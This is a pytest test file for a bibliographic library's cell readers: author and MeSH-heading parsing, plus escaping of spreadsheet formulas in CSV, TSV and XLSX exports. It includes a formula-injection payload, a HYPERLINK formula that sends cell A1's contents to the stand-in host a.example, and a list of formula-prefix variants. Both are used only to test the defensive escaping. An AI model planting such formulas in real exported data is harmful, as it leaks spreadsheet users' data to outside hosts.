"""None"""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from documents.reading import read_bytes, written
from likewise.documents import Document, MeshHeading
from likewise.documents.formats import csv as table
from likewise.documents.formats import format_named, xlsx
from likewise.documents.formats.cells import (
    guard_cell,
    is_like_a_formula,
    is_nothing,
    name_kind,
    parse_list,
    read_headings,
    read_number,
    read_people,
    read_person,
    read_text,
    read_texts,
    unguard_cell,
)


@pytest.mark.parametrize("cell", ["", "  ", "NA", "NaN", None, float("nan"), [], {}, "#N/A"])
def test_the_ways_to_say_nothing(cell):
    assert is_nothing(cell)


@pytest.mark.parametrize("cell", ["0", 0, "Nan", "A", [None]])
def test_what_is_not_nothing(cell):
    assert not is_nothing(cell)


@pytest.mark.parametrize("cell", [12345678, 12345678.0, "12345678.0", " 12345678 ", [12345678]])
def test_an_identifier_survives_being_made_a_number(cell):
    assert read_number(cell) == "12345678"


def test_spaces_and_line_ends_become_single_spaces():
    assert read_text(" On\u00a0 cats\n and dogs ") == "On cats and dogs"


def test_a_value_that_is_no_text_is_named():
    with pytest.raises(TypeError, match="an object"):
        read_text({"a": 1})


def test_what_is_wrong_in_a_list_is_named():
    with pytest.raises(TypeError, match="a list with the number 5 in it"):
        read_texts(["a", 5])


def test_square_brackets_alone_do_not_make_a_list():
    assert read_texts("[Article in German]") == ["[Article in German]"]


def test_a_comma_never_parts_mesh_names():
    assert [heading.name for heading in read_headings("Infant, Newborn; Rats")] == [
        "Infant, Newborn",
        "Rats",
    ]


def test_names_and_identifiers_are_paired_when_as_many():
    assert read_headings("Animals; *Brain/metabolism", "D000818 D001921") == [
        MeshHeading("Animals", ui="D000818"),
        MeshHeading("Brain", ui="D001921", major=True),
    ]


def test_names_and_identifiers_are_not_paired_when_it_does_not_work_out():
    assert read_headings("Animals; Brain", "D000818") == [
        MeshHeading("Animals"),
        MeshHeading("Brain"),
    ]


def test_identifiers_alone_make_headings_without_names():
    assert read_headings(None, "D000818 D001921") == [
        MeshHeading("", ui="D000818"),
        MeshHeading("", ui="D001921"),
    ]


def test_our_own_spelling_of_a_heading_is_understood():
    assert read_headings("*D001921:Brain") == [MeshHeading("Brain", ui="D001921", major=True)]


@pytest.mark.parametrize(
    ("value", "name"), [("a", "a text"), (None, "null"), ([1], "a list"), (1.5, "the number 1.5")]
)
def test_kinds_of_values_have_names(value, name):
    assert name_kind(value) == name


def test_backslashes_in_a_written_list_do_not_warn():
    assert read_texts(r"['\d', 'b']") == [r"\d", "b"]


def test_a_list_in_a_cell_has_no_halves_of_characters():
    value = parse_list(r"[{'a': '\ud800'}, '\ud83d\ude3a', '\xe9', 5]")
    assert value == [{"a": "\ufffd"}, "\U0001f63a", "é", 5]


@pytest.mark.parametrize(
    "cell",
    [
        "Okafor N, Lind P.",
        "Okafor N; Lind P",
        "Okafor N|Lind P",
        "Okafor N\nLind P",
        "['Okafor N', 'Lind P']",
        ["Okafor N", "Lind P"],
        [{"family": "Okafor", "given": "N"}, {"lastName": "Lind", "firstName": "P"}],
        [{"name": "Okafor N"}, {"name": "Lind P"}],
        "Okafor, N and Lind, P",
        "Okafor, N, Lind, P",
    ],
)
def test_authors_are_parted_by_what_is_there(cell):
    assert read_people(cell) == ["Okafor, N", "Lind, P"]


@pytest.mark.parametrize(
    "name",
    [
        "Okafor, Ngozi",
        "Department of Health, Education, and Welfare",
        "Cochrane Sleep Study Group",
        "Plato",
    ],
)
def test_a_single_author_stays_whole(name):
    assert read_people(name) == [name]


@pytest.mark.parametrize(
    ("short", "full"),
    [
        ("Okafor,N.A.", "Okafor, N.A."),
        ("van der Berg JM", "van der Berg, JM"),
        ("Lind P.-O.", "Lind, P.-O."),
        ("King ML Jr", "King, ML Jr"),
        ("Östlund Å", "Östlund, Å"),
        ("Lind, Per (57190000002)", "Lind, Per"),
        ("Trial Group UK", "Trial Group UK"),
    ],
)
def test_initials_go_behind_the_family_name(short, full):
    assert read_person(short) == full


@pytest.mark.parametrize("name", ["UK Biobank", "N Okafor", "E. coli Consortium"])
def test_initials_before_a_single_name_stay_there_unless_it_is_plain(name):
    assert read_people(name) == [name]


def test_initials_before_families_go_behind_them():
    assert read_people("N. Okafor; P.-O. van der Lind") == ["Okafor, N.", "van der Lind, P.-O."]
    assert read_people("N Okafor, PO Lind, ...") == ["Okafor, N", "Lind, PO"]


def test_et_al_is_no_author():
    assert read_people("Okafor N, Lind P, et al.") == ["Okafor, N", "Lind, P"]


def test_full_names_are_parted_by_commas_when_there_are_three_or_more():
    assert read_people("Ngozi Okafor, Per Lind, Li Na") == ["Ngozi Okafor", "Per Lind", "Li Na"]


def test_groups_may_come_first_or_last():
    found = read_people("WHO Study Group, Okafor N, Lind P.")
    assert found == ["WHO Study Group", "Okafor, N", "Lind, P"]


LINK = '=HYPERLINK("https://a.example/?"&A1, "Read on")'
FORMULAS = [LINK, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1"]
HARMLESS = ["", "On cats", "1=1", "'tis", "a-b", "(=1)", "''", "\u2212 minus", "12", " x"]
any_text = st.text(st.sampled_from("'=+-@\t\n a\uff0d"), max_size=6)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(text):
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_stays_as_it_is(text):
    assert (guard_cell(text), unguard_cell(text)) == (text, text)


@given(any_text)
def test_a_guarded_text_is_found_again(text):
    assert unguard_cell(guard_cell(text)) == text


@given(any_text)
def test_no_guarded_text_begins_like_a_formula(text):
    assert guard_cell(text).startswith("'") or not is_like_a_formula(text)


def rows(module, document, *, delimiter, notes):
    content = written(module, [document], notes=notes).decode()
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(("module", "delimiter"), [(table, ","), (format_named("tsv"), "\t")])
def test_texts_of_tables_are_guarded_and_numbers_are_not(module, delimiter):
    document = Document(id="-1", title=LINK, authors=("@a", "b"), year=-300)
    notes = {"score": -1.25, "rank": -3, "decision": True, "words": "+cat", "mark": "relevant"}
    (row,) = rows(module, document, delimiter=delimiter, notes=notes)
    assert (row["id"], row["title"], row["authors"]) == ("'-1", f"'{LINK}", "'@a; b")
    assert [row[name] for name in ("year", *notes)] == [
        *("-300", "-1.25", "-3", "true", "'+cat", "relevant")
    ]


@pytest.mark.parametrize("module", [table, format_named("tsv"), xlsx])
def test_guarded_texts_are_read_back(module):
    document = Document(id="@1", title=LINK, abstract="'-x", year=-300, keywords=("''=", "b"))
    assert read_bytes(module, written(module, [document])) == [document]


def test_a_workbook_s_texts_stay_texts_when_they_are_edited():
    document = Document(id="1", title=LINK, journal="J Cats")
    content = written(xlsx, [document], notes={"score": -1.25})
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {name.value: cell for name, cell in zip(sheet[1], sheet[2], strict=True)}
    assert (cells["title"].value, cells["title"].data_type) == (LINK, "s")
    assert (cells["title"].quotePrefix, cells["journal"].quotePrefix) == (True, False)
    assert (cells["score"].value, cells["score"].quotePrefix) == (-1.25, False)


def test_cells_that_others_guarded_are_read_as_they_were_meant():
    (found,) = read_bytes(table, b"key,title,notes\n'@1,'-omics in mice,'tis so\n")
    assert (found.id, found.title) == ("@1", "-omics in mice")
